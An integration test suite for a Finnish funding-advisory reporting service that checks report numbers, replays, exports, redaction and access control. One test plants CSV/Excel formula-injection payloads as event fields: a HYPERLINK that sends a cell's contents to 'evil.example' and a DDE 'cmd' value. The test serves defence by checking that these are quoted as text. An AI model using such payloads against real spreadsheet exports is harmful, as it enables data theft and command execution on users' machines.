"""The reporting service against real NATS and a real MongoDB-protocol server, fed a scripted year of events."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import sys
import zipfile
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from koonto.reporting.main import create_runtime
from koonto.reporting.replay import replay
from koonto.reporting.settings import ReportingSettings
from koonto.reporting.store import Generations, ReadModels, event_marker
from koonto.reporting.use_cases.projection import apply_event
from koonto.reporting.use_cases.reports import build_summary, headline
from koonto.shared.contracts import Envelope
from koonto.shared.contracts.advisory import CallOpened, CaseOpened, CaseOrganisation, SessionLogged, StageChanged
from koonto.shared.contracts.intake import ErasureRequested, Organisation
from koonto.shared.mongo import Leases
from koonto.shared.runtime import Runtime
from tests.reporting.history import PERIODS, PERSONAL_STRINGS, actual, expected, history
from tests.support.polling import eventually, stays
from tests.support.samples import envelope, idea_submitted
from tests.support.services import FAST_CONSUMER, client, running
from tests.support.staff import TEST_JWKS_JSON, bearer

FUNDER = bearer("funder")
EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")
PHONE = re.compile(r"\+358\d{6,}")


def settings_for(nats_url: str, mongo_url: str, db: str) -> ReportingSettings:
    return ReportingSettings(
        nats_url=nats_url, mongo_url=mongo_url, mongo_database=db, staff_jwks_url=TEST_JWKS_JSON,
        **FAST_CONSUMER,  # type: ignore[arg-type]
    )


async def publish(runtime: Runtime, events: list[Envelope], *, suffix: str = "") -> None:
    for env in events:
        await runtime.publisher(env.type, env.model_dump_json().encode(), env.id + suffix)


async def processed(runtime: Runtime) -> int:
    return await runtime.db["processed_events"].count_documents({})


def params(first: date, last: date, municipality: str | None) -> dict[str, str]:
    out = {"from": first.isoformat(), "to": last.isoformat()}
    if municipality:
        out["municipality"] = municipality
    return out


async def summary(http: httpx.AsyncClient, first: date, last: date, municipality: str | None) -> dict[str, Any]:
    response = await http.get("/api/v1/reports/summary", params=params(first, last, municipality), headers=FUNDER)
    assert response.status_code == 200, response.text
    body = response.json()
    body.pop("generated_at")
    return body


async def all_reports(http: httpx.AsyncClient) -> list[dict[str, Any]]:
    return [await summary(http, *period) for period in PERIODS]


@pytest.fixture
async def loaded(
    clean_stream: str, mongo_url: str, db_names: dict[str, str]
) -> AsyncIterator[tuple[Runtime, list[Envelope]]]:
    """The service running, with the whole scripted history consumed."""
    runtime = create_runtime(settings_for(clean_stream, mongo_url, db_names["reporting"]))
    events = history()
    async with running(runtime):
        await publish(runtime, events)
        await eventually(lambda: processed(runtime), until=lambda n: n == len(events), timeout=60,
                         what="every event processed")
        yield runtime, events


async def test_scripted_history_gives_the_expected_numbers_for_every_period_and_municipality(
    loaded: tuple[Runtime, list[Envelope]],
) -> None:
    runtime, _ = loaded
    async with client(runtime) as http:
        for first, last, municipality in PERIODS:
            got = actual(await summary(http, first, last, municipality))
            want = expected(first, last, municipality)
            assert got == want, (first, last, municipality)
        # a few figures spelled out, so the scenario itself is checked too
        q1 = actual(await summary(http, date(2026, 1, 1), date(2026, 3, 31), None))
        assert q1["ideas_total"] == 4 and q1["associations_advised"] == 4 and q1["applications_total"] == 4
        assert q1["idea_to_first_contact"]["cases"] == 4
        kuopio = actual(await summary(http, date(2026, 1, 1), date(2026, 12, 31), "kuopio"))
        assert kuopio["associations_advised"] == 2  # "a" and "e" are the same association
        assert kuopio["funded"] == 1 and kuopio["declined"] == 1 and kuopio["eur_granted"] == 25000
        one_day = actual(await summary(http, date(2026, 4, 1), date(2026, 4, 1), "varkaus"))
        assert one_day["ideas_total"] == 1


async def test_month_roll_ups_give_the_numbers_of_the_daily_counters_for_any_period(
    loaded: tuple[Runtime, list[Envelope]],
) -> None:
    """Reports read whole years from the year documents, whole months from the roll-ups and the edge days from the
    daily counters; a generation built before the year documents is read by months, one built before the
    roll-ups from its daily counters alone. All give the same report for every period."""
    runtime, _ = loaded
    region = runtime.region
    with_rollups = await Generations(runtime.store).active()
    assert with_rollups.rollups and await with_rollups.monthly.count_documents({}) > 0
    assert with_rollups.yearly and await with_rollups.years.count_documents({}) > 0
    daily_only = ReadModels(runtime.store, with_rollups.generation, rollups=False)
    by_months = ReadModels(runtime.store, with_rollups.generation, yearly=False)
    periods = [*PERIODS, (date(2026, 2, 14), date(2026, 5, 3), None), (date(2026, 3, 1), date(2026, 3, 20), None),
               (date(2026, 3, 20), date(2026, 4, 10), "kuopio"), (date(2025, 12, 1), date(2027, 1, 31), None),
               (date(2026, 2, 1), date(2026, 2, 28), "iisalmi"), (date(2026, 6, 30), date(2026, 7, 1), None),
               (date(2025, 6, 1), date(2027, 3, 15), None), (date(2026, 1, 1), date(2026, 10, 20), "kuopio")]
    for first, last, municipality in periods:
        summary = await build_summary(with_rollups, region, first, last, municipality)
        for other in (daily_only, by_months):
            assert summary == await build_summary(other, region, first, last, municipality), (first, last, municipality)
    for municipality in (None, "kuopio"):
        assert await headline(with_rollups, municipality) == await headline(daily_only, municipality)


async def test_redelivering_any_event_changes_nothing(loaded: tuple[Runtime, list[Envelope]]) -> None:
    runtime, events = loaded
    async with client(runtime) as http:
        before = await all_reports(http)
        # past the duplicate window: the same events again under new message ids -> the inbox skips them
        await publish(runtime, events, suffix="-again")
        await stays(lambda: processed(runtime), until=lambda n: n == len(events), duration=1.5)
        # and straight into the read models, past the inbox: the counters themselves refuse a second count
        models = await Generations(runtime.store).active()
        for env in events:
            await apply_event(models, env)
        # a crash after the plan was written and one counter reached, before the rest: the retry completes it
        env = next(e for e in events if e.type.endswith("stage-changed.v1") and e.data["to_stage"] == "funded")
        fact = await models.facts.find_one({"_id": env.id})
        assert fact is not None and fact["applied"] and len(fact["plan"]) >= 3
        snapshot = {d["_id"]: d async for d in models.counters.find({})}
        await models.facts.update_one({"_id": env.id}, {"$set": {"applied": False}})
        for entry in fact["plan"][1:]:  # undo the later increments by hand, as if they had never been written
            await models.counters.update_one(
                {"_id": entry["id"]},
                {"$inc": {k: -v for k, v in entry["values"].items()}, "$unset": {event_marker(env.id): ""}},
            )
        await apply_event(models, env)
        assert {d["_id"]: d async for d in models.counters.find({})} == snapshot
        assert await all_reports(http) == before


async def test_rebuild_from_the_stream_equals_the_live_read_model_and_switches_without_downtime(
    loaded: tuple[Runtime, list[Envelope]],
) -> None:
    runtime, events = loaded
    generations = Generations(runtime.store)
    live_generation = await generations.active_name()
    async with client(runtime) as http:
        live = await all_reports(http)
        result = await replay(runtime.settings, show_progress=False)  # type: ignore[arg-type]
        assert result.generation != live_generation and result.previous == live_generation
        assert result.applied + result.ignored == len(events) and result.unresolved == 0
        assert await generations.active_name() == result.generation
        assert not [n for n in await runtime.db.list_collection_names() if n.startswith(f"rm_{live_generation}_")]
        assert await all_reports(http) == live

        # the live consumers carry on in the new generation
        late = envelope(idea_submitted(submitted_at=live[0]["period"]["from"] + "T09:00:00+00:00",
                                       organisation={"name": "Uusi yhdistys ry", "type": "registered_association",
                                                     "municipality": "kuopio"}))
        await runtime.publisher(late.type, late.model_dump_json().encode(), late.id)
        after = await eventually(lambda: summary(http, *PERIODS[0]), until=lambda s: s["ideas"]["total"] == 5,
                                 what="a new idea counted after the switch")
        assert after["ideas"]["by_municipality"]["kuopio"] == 3

    # one replay at a time: while another holds the lease, a second one refuses and changes nothing
    other = Leases(runtime.db["leases"], "someone-else")
    assert await other.acquire("reporting-replay", timedelta(minutes=5))
    with pytest.raises(SystemExit, match="Another replay is running"):
        await replay(runtime.settings, show_progress=False)  # type: ignore[arg-type]
    assert await generations.active_name() == result.generation


async def test_xlsx_csv_and_pdf_hold_the_same_numbers_as_the_json(loaded: tuple[Runtime, list[Envelope]]) -> None:
    runtime, _ = loaded
    first, last = date(2026, 1, 1), date(2026, 12, 31)
    query = params(first, last, None)
    async with client(runtime) as http:
        report = await summary(http, first, last, None)
        xlsx = await http.get("/api/v1/reports/summary.xlsx", params=query, headers=FUNDER)
        again = await http.get("/api/v1/reports/summary.xlsx", params=query, headers=FUNDER)
        csv_response = await http.get("/api/v1/reports/summary.csv", params=query, headers=FUNDER)
        csv_en = await http.get("/api/v1/reports/summary.csv", params={**query, "dialect": "en"}, headers=FUNDER)
        csv_bad = await http.get("/api/v1/reports/summary.csv", params={**query, "dialect": "excel"}, headers=FUNDER)
        pdf = await http.get("/api/v1/reports/summary.pdf", params=query, headers=FUNDER)

    assert xlsx.status_code == 200 and "spreadsheetml" in xlsx.headers["content-type"]
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames[:4] == ["Raportti", "Yhteenveto", "Ideat kunnittain", "Ideat teemoittain"]
    figures = {row[0]: row[1] for row in book["Yhteenveto"].iter_rows(min_row=3, values_only=True) if row[0]}
    assert figures["Ideoita vastaanotettu"] == report["ideas"]["total"] == 7
    assert figures["Neuvottuja yhdistyksiä"] == report["associations_advised"]
    assert figures["Neuvontakertoja"] == report["sessions"]["total"]
    assert figures["Neuvontatunteja"] == report["sessions"]["hours"]
    assert figures["Jätettyjä hakemuksia"] == report["applications"]["total"]
    assert figures["Myönteisiä rahoituspäätöksiä"] == report["decisions"]["funded"]["decisions"]
    assert figures["Myönnetty, €"] == report["decisions"]["eur_granted"] == 53000
    assert figures["Osallistujia"] == report["events"]["participants"]
    sessions = {row[0]: row[1:] for row in book["Neuvonta lajeittain"].iter_rows(min_row=3, values_only=True) if row[0]}
    assert sessions["Tapaaminen"] == (report["sessions"]["by_kind"]["meeting"]["sessions"],
                                      report["sessions"]["by_kind"]["meeting"]["hours"])
    stages = {row[0]: row[1:3] for row in book["Vaiheet ja suppilo"].iter_rows(min_row=3, values_only=True)
              if row[0] and row[1] is not None}
    assert stages["Päättynyt"] == (report["cases_by_stage"]["closed"], report["funnel"]["reached"]["closed"])
    rates = {row[0]: row[3] for row in book["Vaiheet ja suppilo"].iter_rows(min_row=3, values_only=True) if row[0]}
    assert rates["Sparrauksessa"] == report["funnel"]["conversion"][0]["rate_percent"] == 85.7  # 6 of 7
    # figures are numbers with formats: euros, hours with one decimal, shares in per cent; charts beside tables
    key = {row[0].value: row[1] for row in book["Yhteenveto"].iter_rows(min_row=3) if row[0].value}
    assert key["Myönnetty, €"].number_format.endswith('"€"') and key["Neuvontatunteja"].number_format == "#,##0.0"
    assert book["Vaiheet ja suppilo"]["D4"].number_format.endswith('"%"')
    charted = [ws.title for ws in book.worksheets if ws._charts]
    assert {"Ideat kunnittain", "Vaiheet ja suppilo", "Neuvonta lajeittain", "Tilaisuudet lajeittain"} <= set(charted)
    assert "Yhteenveto" not in charted and "Tavoitetut kunnat" not in charted
    calls = {row[0]: row[1:] for row in book["Hakemukset rahoitushauittain"].iter_rows(min_row=3, values_only=True)
             if row[0]}
    for row in report["applications"]["by_call"]:
        assert calls[row["name"]] == (row["applications"], row["eur_applied"])
    # the same events give the same workbook apart from its generation time
    assert book.properties.created is not None
    other = load_workbook(io.BytesIO(again.content))
    for name in book.sheetnames[1:]:
        assert list(book[name].values) == list(other[name].values)

    text = csv_response.content.decode("utf-8-sig")
    assert "# Yhteenveto" in text and f"Ideoita vastaanotettu;{report['ideas']['total']}" in text
    hours = str(report["sessions"]["hours"])
    assert "." in hours and f"Neuvontatunteja;{hours.replace('.', ',')}\r\n" in text  # decimal comma with ';'
    assert "Sparrauksessa;" in text and ";85,7\r\n" in text
    english = list(csv.reader(io.StringIO(csv_en.content.decode("utf-8-sig"))))
    assert ["Neuvontatunteja", hours] in english
    assert csv_bad.status_code == 422 and csv_bad.json()["errors"][0]["field"] == "dialect"

    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(pdf.content))
    pdf_text = "\n".join(page.extract_text() for page in reader.pages).replace("\xa0", " ")
    assert "Yhteenveto" in pdf_text and "Ideoita vastaanotettu" in pdf_text
    assert "Kevään 2026 haku" in pdf_text and re.search(r"Myönnetty, €\s+53 000\b", pdf_text)
    assert re.search(rf"Neuvontatunteja\s+{str(report['sessions']['hours']).replace('.', ',')}\b", pdf_text)
    assert re.search(rf"Neuvontakertoja\s+{report['sessions']['total']}\b", pdf_text)
    assert "Kaavio:" in pdf_text  # the charts are there
    pages = [page.extract_text() for page in reader.pages]
    assert len(pages) >= 2 and all(f"Sivu {n} / {len(pages)}" in t for n, t in enumerate(pages, start=1))
    for header in ("Tapauksia kauden lopussa", "Kauden ideoista vaiheeseen edenneitä",
                   "Edenneitä edellisestä vaiheesta, %"):  # the funnel's headers, wrapped, word by word
        assert re.search(r"\s+".join(re.escape(w) for w in header.split()), pdf_text), header
    catalog = reader.trailer["/Root"]
    assert catalog["/Lang"] == "fi" and "/StructTreeRoot" in catalog and catalog["/MarkInfo"]["/Marked"]
    assert reader.metadata is not None and reader.metadata.title == "Koonto: raportti rahoittajalle"
    assert reader.metadata.creation_date is not None


async def test_no_document_in_the_reporting_database_holds_personal_data(
    loaded: tuple[Runtime, list[Envelope]],
) -> None:
    runtime, _ = loaded
    names = await runtime.db.list_collection_names()
    assert any(n.endswith("_counters") for n in names) and any(n.endswith("_cases") for n in names)
    scanned = 0
    for name in names:
        async for doc in runtime.db[name].find({}):
            text = json.dumps(doc, default=str, ensure_ascii=False)
            scanned += 1
            for personal in PERSONAL_STRINGS:
                assert personal not in text, (name, personal)
            assert not EMAIL.search(text), (name, text[:300])
            assert not PHONE.search(text), (name, text[:300])
    assert scanned > 50


async def test_showcase_lists_only_funded_projects_whose_association_consented(
    loaded: tuple[Runtime, list[Envelope]],
) -> None:
    runtime, _ = loaded
    async with client(runtime) as http:
        page = await http.get("/esittely")
        assert page.status_code == 200
        html = page.text
        assert "Kylätalon kohtaamispaikka" in html and "Nuorten kesätapahtuma" in html  # consented, funded
        assert "Tapahtumaan osallistui 300 nuorta." in html  # results at closing
        assert "Nuorten iltapäivät" not in html  # funded, but no consent
        assert "Liikuntaa kaikille" not in html  # consented, but declined and not funded since
        assert "Lukupiiri kirjastossa" not in html  # consented, still an idea
        kuopio = (await http.get("/esittely", params={"municipality": "tuusniemi"})).text
        assert "Nuorten kesätapahtuma" in kuopio and "Kylätalon kohtaamispaikka" not in kuopio
        village = (await http.get("/esittely", params={"theme": "village"})).text
        assert "Kylätalon kohtaamispaikka" in village and "Nuorten kesätapahtuma" not in village
        swedish = await http.get("/esittely", params={"lang": "sv"})
        assert 'lang="sv"' in swedish.text and "Finansierade projekt" in swedish.text
        # the way back to the public front page and the idea form (intake), in the page's language
        assert 'href="http://127.0.0.1:8001/?lang=sv"' in swedish.text and "Startsida" in swedish.text
        assert 'href="http://127.0.0.1:8001/ideas/new?lang=sv"' in swedish.text
        assert "Lämna en projektidé" in swedish.text
        # headline figures: 5 associations advised over all time, 9 consultations, 4 events, 3 projects funded
        figures = re.findall(r'<span class="value">(\d+)</span>', html)
        assert figures[:4] == ["5", "9", "4", "3"]
        assert '<span class="value">5</span> yhdistystä neuvottu' in html  # counted forms (ngettext)
        assert '<span class="value">3</span> finansierade projekt' in swedish.text


async def test_dashboard_and_api_are_for_staff_and_explain_bad_queries(loaded: tuple[Runtime, list[Envelope]]) -> None:
    runtime, _ = loaded
    async with client(runtime) as http:
        query = {"from": "2026-01-01", "to": "2026-03-31"}
        assert (await http.get("/api/v1/reports/summary", params=query)).status_code == 401
        assert (await http.get("/api/v1/reports/summary", params=query, headers=bearer("advisor"))).status_code == 403
        for role in ("coordinator", "admin"):
            assert (await http.get("/api/v1/reports/summary", params=query, headers=bearer(role))).status_code == 200

        bad = await http.get("/api/v1/reports/summary", params={"from": "2026-13-01", "to": "2026-01-01"},
                             headers=FUNDER)
        assert bad.status_code == 422
        assert "VVVV-KK-PP" in bad.json()["detail"] and bad.json()["errors"][0]["field"] == "from"
        reversed_ = await http.get("/api/v1/reports/summary", params={"from": "2026-03-01", "to": "2026-01-01"},
                                   headers=FUNDER)
        assert reversed_.status_code == 422 and "ennen alkupäivää" in reversed_.json()["detail"]
        unknown = await http.get("/api/v1/reports/summary", params={**query, "municipality": "helsinki"},
                                 headers=FUNDER)
        assert unknown.status_code == 422 and "Tuntematon kunta" in unknown.json()["detail"]
        missing = await http.get("/api/v1/reports/summary", params={"to": "2026-01-01"}, headers=FUNDER)
        assert missing.status_code == 422 and "alkupäivä" in missing.json()["detail"]

        assert (await http.get("/raportit")).status_code == 401
        token = FUNDER["Authorization"].removeprefix("Bearer ")
        http.cookies.set("koonto_staff", token)
        page = await http.get("/raportit", params={**query, "municipality": "kuopio"})
        assert page.status_code == 200
        html = page.text
        assert html.count('role="img"') >= 5 and "<title id=" in html and "<desc id=" in html
        assert html.count('<table class="stack">') >= html.count('role="img"')  # a (stacking) table by every chart
        assert html.count("<td data-label=") > html.count("<tr>") // 2  # each cell named by its column on a phone
        assert 'href="/api/v1/reports/summary.xlsx?from=2026-01-01&amp;to=2026-03-31&amp;municipality=kuopio"' in html
        wrong = await http.get("/raportit", params={"from": "eilen", "to": "2026-03-31"})
        assert wrong.status_code == 422 and 'href="#field-from"' in wrong.text

        # no period asked for: the whole current calendar year, so the forums of April and September are in the
        # default report on 10 March already (the old default ended "today" and showed 2 of the 4)
        runtime.container.clock = lambda: datetime(2026, 3, 10, 10, tzinfo=UTC)  # type: ignore[attr-defined]
        default = await http.get("/api/v1/reports/summary", headers=FUNDER)
        year = await summary(http, date(2026, 1, 1), date(2026, 12, 31), None)
        assert default.status_code == 200
        assert default.json()["events"] == year["events"] and year["events"]["total"] == 4
        assert {k: v for k, v in default.json().items() if k != "generated_at"} == year
        page = await http.get("/raportit")
        assert page.status_code == 200 and 'value="2026-01-01"' in page.text and 'value="2026-12-31"' in page.text
        assert "summary.pdf?from=2026-01-01&amp;to=2026-12-31" in page.text


async def test_replay_during_live_traffic_catches_up_and_the_command_line_rebuild_agrees(
    loaded: tuple[Runtime, list[Envelope]], mongo_url: str,
) -> None:
    runtime, events = loaded
    extra = [
        envelope(idea_submitted(submitted_at=f"2026-02-{day:02d}T09:00:00+00:00",
                                organisation={"name": f"Yhdistys {day} ry", "type": "registered_association",
                                              "municipality": "kuopio"}))
        for day in range(1, 21)
    ]

    async def live_traffic() -> None:
        for env in extra:
            await runtime.publisher(env.type, env.model_dump_json().encode(), env.id)
            await asyncio.sleep(0.02)  # spread over the replay on purpose

    traffic = asyncio.create_task(live_traffic())
    result = await replay(runtime.settings, show_progress=False)  # type: ignore[arg-type]
    await traffic
    await eventually(lambda: processed(runtime), until=lambda n: n == len(events) + len(extra), timeout=30,
                     what="live events processed")
    async with client(runtime) as http:
        q1 = await eventually(lambda: summary(http, *PERIODS[0]), until=lambda s: s["ideas"]["total"] == 24,
                              what="every live idea in the new generation")
        assert q1["ideas"]["by_municipality"]["kuopio"] == 22
        assert await Generations(runtime.store).active_name() == result.generation
        before = await all_reports(http)

        env = {
            **os.environ, "KOONTO_NATS_URL": runtime.settings.nats_url, "KOONTO_MONGO_URL": mongo_url,
            "KOONTO_MONGO_DATABASE": runtime.settings.mongo_database, "KOONTO_MODE": "test",
        }
        proc = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "koonto.reporting.replay", env=env,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
        )
        _, err = await asyncio.wait_for(proc.communicate(), 120)
        assert proc.returncode == 0, err.decode()
        assert "Active generation" in err.decode() and f"{len(events) + len(extra)} events read" in err.decode()
        assert await Generations(runtime.store).active_name() != result.generation
        assert await all_reports(http) == before


async def test_events_about_a_case_that_arrive_before_the_case_are_counted_once_it_is_known(
    loaded: tuple[Runtime, list[Envelope]],
) -> None:
    runtime, events = loaded
    idea = idea_submitted(idea_id="idea-late", submitted_at="2026-03-02T08:00:00+00:00",
                          organisation={"name": "Myöhäinen yhdistys ry", "type": "registered_association",
                                        "municipality": "kaavi"})
    session = envelope(SessionLogged(session_id="s-late", case_id="case-late", idea_id="idea-late", kind="phone",
                                     started_at=datetime(2026, 3, 3, 8, tzinfo=UTC), duration_minutes=30,
                                     advisor_id="x"))
    await runtime.publisher(session.type, session.model_dump_json().encode(), session.id)
    # acknowledged and parked: it waits for its idea without holding up the stream or running out of retries
    await eventually(lambda: processed(runtime), until=lambda n: n == len(events) + 1, what="session parked")
    models = await Generations(runtime.store).active()
    assert await models.parked_count() == 1
    async with client(runtime) as http:
        assert (await summary(http, date(2026, 3, 1), date(2026, 3, 31), "kaavi"))["sessions"]["total"] == 0
        late = envelope(idea)
        await runtime.publisher(late.type, late.model_dump_json().encode(), late.id)
        kaavi = await eventually(lambda: summary(http, date(2026, 3, 1), date(2026, 3, 31), "kaavi"),
                                 # a plan's counters land one by one: wait for the last of them too
                                 until=lambda s: s["sessions"]["total"] == 1 and s["associations_advised"] == 1,
                                 what="the early session counted")
    assert kaavi["associations_advised"] == 1 and kaavi["ideas"]["total"] == 1
    assert kaavi["durations"]["idea_to_first_contact"] == {"cases": 1, "median": 1.0, "p90": 1}
    # the parked copy is removed after its handler has run, which may be just after the report saw the counters
    await eventually(models.parked_count, until=lambda n: n == 0, what="the parked session released")


async def test_an_erasure_request_takes_the_project_off_the_showcase(loaded: tuple[Runtime, list[Envelope]]) -> None:
    runtime, _ = loaded
    erasure = envelope(ErasureRequested(request_id="r1", requested_at=datetime(2026, 11, 25, tzinfo=UTC),
                                        email="maija.meikalainen@example.fi", idea_ids=("idea-a",)))
    await runtime.publisher(erasure.type, erasure.model_dump_json().encode(), erasure.id)
    async with client(runtime) as http:
        await eventually(lambda: http.get("/esittely"), until=lambda r: "Kylätalon kohtaamispaikka" not in r.text,
                         what="project a off the showcase")
        assert "Nuorten kesätapahtuma" in (await http.get("/esittely")).text
    case = await (await Generations(runtime.store).active()).cases.find_one({"_id": "idea-a"})
    assert case is not None and "organisation_name" not in case and case["erased"]


async def test_dead_letters_keep_no_personal_data_and_can_still_be_redriven(
    loaded: tuple[Runtime, list[Envelope]],
) -> None:
    runtime, _ = loaded
    # a message that cannot be read (no organisation) but carries a contact person: dead-lettered, redacted
    broken = envelope(idea_submitted(title="Rikki"))
    body = json.loads(broken.model_dump_json())
    del body["data"]["organisation"]
    await runtime.publisher(broken.type, json.dumps(body).encode(), broken.id)
    letters = await eventually(runtime.dead_letters.list, until=lambda x: len(x) == 1, what="dead letter")
    text = json.dumps(letters[0], default=str, ensure_ascii=False)
    assert "maija@example.fi" not in text and "Maija Meikäläinen" not in text and "+358401234567" not in text
    assert not EMAIL.search(text) and not PHONE.search(text)

    # a letter that failed for a passing reason is kept redacted too, and re-driving it counts the idea once
    fine = envelope(idea_submitted(submitted_at="2026-02-02T09:00:00+00:00"))
    key = await runtime.dead_letters.add(
        consumer="reporting-intake-idea-submitted-v1", subject=fine.type, body=fine.model_dump_json().encode(),
        headers={"Nats-Msg-Id": fine.id}, error=RuntimeError("store away; contact maija@example.fi"),
        deliveries=8, event_id=fine.id,
    )
    stored = await runtime.db["dead_letters"].find_one({"_id": key})
    assert stored is not None and "maija@example.fi" not in json.dumps(stored, default=str)
    async with client(runtime) as http:
        response = await http.post(f"/api/v1/dead-letters/{key}/redrive", headers=bearer("coordinator"))
        assert response.status_code == 200 and response.json()["status"] == "redriven"
        q1 = await summary(http, *PERIODS[0])
    assert q1["ideas"]["total"] == 5 and q1["ideas"]["by_municipality"]["siilinjarvi"] == 1


async def test_exports_hold_texts_from_events_that_look_like_formulas_as_quoted_text(
    clean_stream: str, mongo_url: str, db_names: dict[str, str]
) -> None:
    """A call, a municipality and a theme named like formulas reach the csv and xlsx as text, never formulas."""
    call_name = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")'
    municipality, theme = "@SUM(1+1)*cmd|' /C calc'!A0", "+358401234567"
    at = datetime(2026, 3, 2, 9, tzinfo=UTC)
    events = [
        envelope(CallOpened(call_id="call-evil", name=call_name, funder="Itä-Suomen elinvoimakeskus",
                            opens_on=date(2026, 1, 15), closes_on=date(2026, 3, 15))),
        envelope(idea_submitted(idea_id="idea-evil", submitted_at=at, themes=(theme,),
                                organisation=Organisation(name="-Yhdistys ry", type="registered_association",
                                                          municipality=municipality))),
        envelope(CaseOpened(case_id="case-evil", idea_id="idea-evil", reference="KOO-2026-0001", opened_at=at,
                            idea_submitted_at=at, title="-1",
                            organisation=CaseOrganisation(name="-Yhdistys ry", type="registered_association",
                                                          municipality=municipality),
                            themes=(theme,))),
        envelope(StageChanged(case_id="case-evil", idea_id="idea-evil", reference="KOO-2026-0001",
                              from_stage="idea", to_stage="submitted", changed_by="staff-advisor-1",
                              changed_at=at + timedelta(days=1), call_id="call-evil", amount_applied_eur=4000)),
    ]
    runtime = create_runtime(settings_for(clean_stream, mongo_url, db_names["reporting"]))
    query = params(date(2026, 1, 1), date(2026, 12, 31), None)
    async with running(runtime), client(runtime) as http:
        await publish(runtime, events)
        await eventually(lambda: processed(runtime), until=lambda n: n == len(events), what="every event processed")
        csv_response = await http.get("/api/v1/reports/summary.csv", params=query, headers=FUNDER)
        xlsx = await http.get("/api/v1/reports/summary.xlsx", params=query, headers=FUNDER)
    assert csv_response.status_code == 200 and xlsx.status_code == 200

    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert ["'" + call_name, "1", "4000"] in rows  # the call's applications: quoted name, numbers as written
    assert ["'" + municipality, "1"] in rows and ["'" + theme, "1"] in rows
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as package:
        sheets = [package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not [xml for xml in sheets if "<f>" in xml or "<f " in xml]
    book = load_workbook(io.BytesIO(xlsx.content))
    values = {ws.title: list(ws.iter_rows(min_row=3, values_only=True)) for ws in book.worksheets}
    assert ("'" + call_name, 1, 4000) in values["Hakemukset rahoitushauittain"]
    assert ("'" + municipality, 1) in values["Ideat kunnittain"] and ("'" + theme, 1) in values["Ideat teemoittain"]
    assert not [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _main_texts(html: str) -> list[str]:
    """The text a reader sees in the page's <main> (no markup, no SVG titles counted twice), one piece per node."""
    main = html.split("<main", 1)[1].split(">", 1)[1].split("</main>", 1)[0]
    main = re.sub(r"<(script|style)\b.*?</\1>", " ", main, flags=re.S)
    return [piece.strip() for piece in re.split(r"<[^>]+>", main) if piece.strip()]


async def test_every_text_of_the_dashboard_is_in_swedish_and_english(loaded: tuple[Runtime, list[Envelope]]) -> None:
    """What the dashboard shows in Swedish and English has nothing left in Finnish but the data (names of
    municipalities, calls and organisations) and numbers: the notes under the tables (the funnel's, the reach's),
    the key figures' labels with a number in them and the yes/no of the reached municipalities included."""
    runtime, events = loaded
    names = {env.data["name"] for env in events if "call-opened" in env.type}  # the funding calls' names
    names |= {m.name_fi for m in runtime.region.municipalities} | {m.name_sv for m in runtime.region.municipalities}
    names |= {"CSV", "JSON", "PDF", "Excel (xlsx)"}  # the files' formats, the same words in every language
    async with client(runtime) as http:
        http.cookies.set("koonto_staff", FUNDER["Authorization"].removeprefix("Bearer "))
        pages = {}
        for language in ("fi", "sv", "en"):
            page = await http.get("/raportit", params={"from": "2026-01-01", "to": "2026-12-31", "lang": language})
            assert page.status_code == 200
            pages[language] = _main_texts(page.text)
    finnish = set(pages["fi"])
    assert any(text.startswith("Suppilo: kauden aikana vastaanotetut") for text in finnish), finnish
    data = re.compile(r"^[\d\s.,:%€–-]*$")  # figures, dates, dashes

    def is_data(text: str) -> bool:
        # a chart's text alternative lists its bars ("Iisalmi: 1; Kuopio: 3"): data when its labels are names
        labels = [part.rsplit(":", 1)[0].strip() for part in text.split(";")] if ";" in text else []
        return bool(data.match(text)) or text in names or (bool(labels) and set(labels) <= names)

    for language in ("sv", "en"):
        left = sorted({text for text in pages[language] if text in finnish and not is_data(text)})
        assert not left, f"Finnish on the {language} dashboard: {left}"
    assert any(text.startswith("Tratten:") for text in pages["sv"]), pages["sv"]
    assert any(text.startswith("Funnel:") for text in pages["en"]), pages["en"]
